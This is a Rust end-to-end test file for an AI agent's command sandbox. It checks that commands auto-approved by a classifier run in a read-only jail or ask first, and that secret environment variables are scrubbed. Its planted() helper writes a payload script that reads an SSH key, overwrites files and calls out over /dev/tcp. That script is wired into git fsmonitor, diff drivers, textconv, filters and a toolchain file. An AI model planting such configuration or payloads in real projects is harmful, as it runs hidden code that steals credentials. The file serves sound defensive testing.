//! The read-only jail through the binary: commands the classifier approves unasked (in
//! default, plan, dontAsk and acceptEdits modes) run where nothing can be written, no
//! network reached and no secret read. Planted configuration (git's fsmonitor, diff drivers
//! and textconv, a toolchain file) is caught twice: the analysis sees that a file of the
//! project names a program and asks, and whatever it misses runs in the jail. So every
//! route either asks or runs jailed, never on the host unasked; the same routes in an
//! ordinary repository run in the jail and work. And the environment scrub: a
//! secret-looking variable of the binary's environment (an API key, the serve token) reaches
//! no sandboxed command, jailed or approved.
//!
//! Every assertion is on side effects: marker files in and outside the project, the victim
//! intact, what a host listener received, what the output holds.

use std::io::Read as _;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;

use crate::{Project, binary, text};

fn bwrap_or_landlock() -> bool {
    test_support::peers::require(
        "bubblewrap (`cargo xtask peers` installs it), for the jail",
        test_support::peers::bwrap().is_some(),
    )
}

/// A listener on the host's loopback that counts connections.
fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let c = Arc::clone(&count);
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            c.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 8];
            let _ = s.read(&mut buf);
        }
    });
    (port, count)
}

/// A project that is a git repository with one commit and `payload.sh`; with `plant`, its
/// configuration (as a checkout or an earlier command could leave it) runs `payload.sh`, which tries to write in and
/// outside the project, reach the host and print a secret.
fn planted(p: &Project, port: u16, secret: &str, plant: bool) {
    p.git_init();
    let root = p.root();
    std::fs::write(root.join("victim"), "keep\n").unwrap();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args(args)
            .current_dir(root)
            .env("HOME", p.home())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdout(Stdio::null())
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["add", "-A"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-qm",
        "first",
    ]);
    std::fs::create_dir_all(p.home().join(".ssh")).unwrap();
    std::fs::write(p.home().join(".ssh/id_ed25519"), secret).unwrap();
    let outside = p.home().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let payload = root.join("payload.sh");
    std::fs::write(
        &payload,
        format!(
            "#!/bin/sh\necho planted > '{r}/PWNED'\necho planted > '{o}/PWNED'\necho planted > /tmp/agent-tools-e2e-pwned-{id}\necho planted > '{r}/victim'\ncat '{h}/.ssh/id_ed25519'\n(echo x > /dev/tcp/127.0.0.1/{port}) 2>/dev/null\nbash -c 'echo x > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\nenv\nexit 0\n",
            r = root.display(),
            o = outside.display(),
            h = p.home().display(),
            id = std::process::id(),
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        &payload,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    // A change for the diff drivers to show.
    std::fs::write(root.join("victim"), "keep, changed\n").unwrap();
    if !plant {
        return;
    }
    let mut config = std::fs::read_to_string(root.join(".git/config")).unwrap();
    config.push_str(&format!(
        "[core]\n\tfsmonitor = {p}\n[diff \"x\"]\n\tcommand = {p}\n\ttextconv = {p}\n[filter \"x\"]\n\tclean = {p}\n",
        p = payload.display()
    ));
    std::fs::write(root.join(".git/config"), config).unwrap();
    std::fs::write(root.join(".gitattributes"), "victim diff=x filter=x\n").unwrap();
    std::fs::write(
        root.join("rust-toolchain.toml"),
        format!("[toolchain]\npath = \"{}\"\n", root.display()),
    )
    .unwrap();
}

/// Commands a classifier takes for reading that run project configuration.
const ROUTES: &[&str] = &[
    "git status",
    "git status --short",
    "git diff",
    "git diff HEAD",
    "git diff --stat",
    "git log -p",
    "git log -p -1 -- victim",
    "git show HEAD",
    "git ls-files -m",
    "git blame victim",
    "cargo --version",
    "rustc --version",
    "git log --oneline",
];

/// Whether a result is a question nobody answered, or plan mode's refusal: the call did not
/// run.
fn asked(line: &serde_json::Value) -> bool {
    let t = text(line);
    line["is_error"] == true
        && (t.contains("requires approval")
            || t.starts_with("<tool_use_error>Plan mode is read-only"))
}

#[test]
fn planted_configuration_runs_only_in_the_jail() {
    if !bwrap_or_landlock() {
        return;
    }
    let (port, reached) = listener();
    let mut variants = 0;
    let (mut jailed, mut asked_planted, mut jailed_plain) = (0, 0, 0);
    for mode in ["default", "plan", "dontAsk", "acceptEdits"] {
        for plant in [true, false] {
            let p = Project::new(&[]);
            let secret = format!("SECRET-KEY-{mode}-{}", std::process::id());
            planted(&p, port, &secret, plant);
            let outside = p.home().join("outside");
            let host_tmp = format!("/tmp/agent-tools-e2e-pwned-{}", std::process::id());
            for command in ROUTES {
                // Alone through `call`, and all together through `batch`.
                let input = json!({ "command": command }).to_string();
                let run = p.run(&["--mode", mode, "call", "Bash", &input], None);
                variants += 1;
                let line = run.result();
                let in_jail = line["data"]["sandbox"]
                    .as_str()
                    .is_some_and(|s| s.contains("read-only jail"));
                // Never on the host unasked: it asked, or it ran in the jail.
                assert!(
                    in_jail || asked(&line),
                    "{mode} `{command}` (planted: {plant}) neither asked nor ran in the jail: {line}"
                );
                match (plant, in_jail) {
                    (true, true) => jailed += 1,
                    (true, false) => asked_planted += 1,
                    (false, true) => jailed_plain += 1,
                    (false, false) => {}
                }
                assert!(
                    !text(&line).contains(&secret),
                    "{mode} `{command}`: {}",
                    text(&line)
                );
                for pwned in [p.root().join("PWNED"), outside.join("PWNED")] {
                    assert!(
                        !pwned.exists(),
                        "{mode} `{command}` wrote {}",
                        pwned.display()
                    );
                }
                assert!(
                    !std::path::Path::new(&host_tmp).exists(),
                    "{mode} `{command}`"
                );
                assert_eq!(
                    std::fs::read_to_string(p.root().join("victim")).unwrap(),
                    "keep, changed\n",
                    "{mode} `{command}`"
                );
            }
            let stdin: String = ROUTES
                .iter()
                .map(|c| format!("{}\n", json!({"tool": "Bash", "input": {"command": c}})))
                .collect();
            let run = p.run(&["--mode", mode, "batch"], Some(&stdin));
            variants += ROUTES.len();
            assert!(!run.stdout.contains(&secret), "{mode} batch");
            assert!(!p.root().join("PWNED").exists() && !outside.join("PWNED").exists());
        }
    }
    assert_eq!(
        reached.load(Ordering::SeqCst),
        0,
        "the host's loopback was reached"
    );
    assert!(variants >= 50, "{variants}");
    // The analysis sees every planted route here and asks; what it let through ran jailed.
    assert!(
        asked_planted + jailed == 4 * ROUTES.len(),
        "{asked_planted} asked, {jailed} jailed"
    );
    assert!(asked_planted > 0, "no planted route asked");
    // In an ordinary repository the same routes run unasked, in the jail (rustc and cargo
    // too, unless the toolchain is missing).
    assert!(
        jailed_plain >= 4 * (ROUTES.len() - 2),
        "only {jailed_plain} ran in the jail"
    );
}

/// Variables that look like secrets in the binary's environment.
const SECRET_VARS: &[&str] = &[
    "ANTHROPIC_API_KEY",
    "AGENT_TOOLS_SERVE_TOKEN",
    "GITHUB_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "PGPASSWORD",
    "MY_CREDENTIALS",
];

fn value(name: &str) -> String {
    format!("leaked-{name}-e2e")
}

/// `agent-tools ARGS` in `p` with the secret variables set.
fn run_with_secrets(p: &Project, args: &[&str], stdin: Option<&str>) -> crate::Run {
    let mut child = Command::new(binary())
        .arg("--cwd")
        .arg(p.root())
        .args(args)
        .current_dir(p.root())
        .env("AGENT_TOOLS_HOME", p.home())
        .env("HOME", p.home())
        .envs(SECRET_VARS.iter().map(|n| (*n, value(n))))
        .env("NODE_OPTIONS", "--no-warnings")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    if let Some(text) = stdin {
        use std::io::Write as _;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(text.as_bytes())
            .unwrap();
    }
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    crate::Run {
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn the_environment_is_scrubbed_end_to_end() {
    if !bwrap_or_landlock() {
        return;
    }
    let (port, _) = listener();
    let p = Project::new(&[]);
    planted(&p, port, "unused", true);
    // Approved commands (the workspace sandbox) in every mode.
    let mut variants = 0;
    for mode in ["default", "acceptEdits", "bypassPermissions"] {
        for command in [
            "env",
            "printenv",
            "cat /proc/self/environ | tr '\\0' '\\n'",
            "export -p",
        ] {
            let input = json!({ "command": command }).to_string();
            let allow = format!("Bash({command})");
            let run = run_with_secrets(
                &p,
                &["--mode", mode, "--allow", &allow, "call", "Bash", &input],
                None,
            );
            variants += 1;
            assert!(run.stdout.contains("PATH="), "{mode} `{command}`: {run:#?}");
            for name in SECRET_VARS {
                assert!(
                    !run.stdout.contains(&value(name)),
                    "{mode} `{command}` saw {name}"
                );
            }
            assert!(!run.stdout.contains("NODE_OPTIONS"), "{mode} `{command}`");
        }
    }
    // Unasked, what would show the environment is not taken for reading: it asks, and shows
    // nothing. (The jail's own scrub is tested through the sandbox crate's API.)
    for mode in ["default", "plan", "dontAsk", "acceptEdits"] {
        for command in [
            "printenv",
            "env",
            "cat /proc/self/environ",
            "export -p",
            "ps eww",
        ] {
            let input = json!({ "command": command }).to_string();
            let run = run_with_secrets(&p, &["--mode", mode, "call", "Bash", &input], None);
            variants += 1;
            assert!(asked(&run.result()), "{mode} `{command}`: {run:#?}");
            for name in SECRET_VARS {
                assert!(
                    !run.stdout.contains(&value(name)),
                    "{mode} `{command}` saw {name}"
                );
            }
        }
    }
    // A person's settings name what passes: an exact secret name, a prefix.
    std::fs::write(
        p.home().join("settings.json"),
        r#"{"sandbox": {"allowEnv": ["GITHUB_TOKEN", "NODE_*", "AGENT_TOOLS_*"]}}"#,
    )
    .unwrap();
    let input = json!({ "command": "env" }).to_string();
    let run = run_with_secrets(&p, &["--allow", "Bash(env)", "call", "Bash", &input], None);
    assert!(run.stdout.contains(&value("GITHUB_TOKEN")), "{run:#?}");
    assert!(
        run.stdout.contains("NODE_OPTIONS=--no-warnings"),
        "{run:#?}"
    );
    assert!(
        !run.stdout.contains(&value("AGENT_TOOLS_SERVE_TOKEN")),
        "{run:#?}"
    );
    assert!(
        !run.stdout.contains(&value("ANTHROPIC_API_KEY")),
        "{run:#?}"
    );
    assert!(variants >= 16, "{variants}");
}

/// The binary installed in the host's `/tmp` (a build or install directory there): the
/// jail gives commands an empty `/tmp` of their own, yet its helper and supervisor run from
/// that binary, so it is bound back read-only. Before, every jailed command failed to start
/// (`bwrap: execvp /tmp/…/agent-tools: No such file or directory`).
#[test]
fn a_binary_in_the_hosts_tmp_runs_jailed_commands() {
    if !bwrap_or_landlock() {
        return;
    }
    let dir = tempfile::Builder::new()
        .prefix("agent-tools-e2e-bin")
        .tempdir_in("/tmp")
        .unwrap();
    let copy = dir.path().join("agent-tools");
    std::fs::copy(binary(), &copy).unwrap();
    let p = Project::new(&["f.txt = x\n"]);
    let input = json!({"command": "echo jailed-ok"}).to_string();
    // Once alone (a sandbox of its own) and once in a live batch (under the supervisor).
    let one = p.run_program(&copy, p.root(), &["call", "Bash", &input], None);
    let stdin = format!(
        "{}\n",
        json!({"tool": "Bash", "input": {"command": "echo jailed-ok"}})
    );
    let batch = p.run_program(&copy, p.root(), &["batch"], Some(&stdin));
    for run in [one, batch] {
        let line = run.result();
        assert_eq!(line["is_error"], false, "{line}");
        assert!(text(&line).contains("jailed-ok"), "{line}");
        assert!(
            line["data"]["sandbox"]
                .as_str()
                .is_some_and(|s| s.contains("read-only jail")),
            "{line}"
        );
    }
}
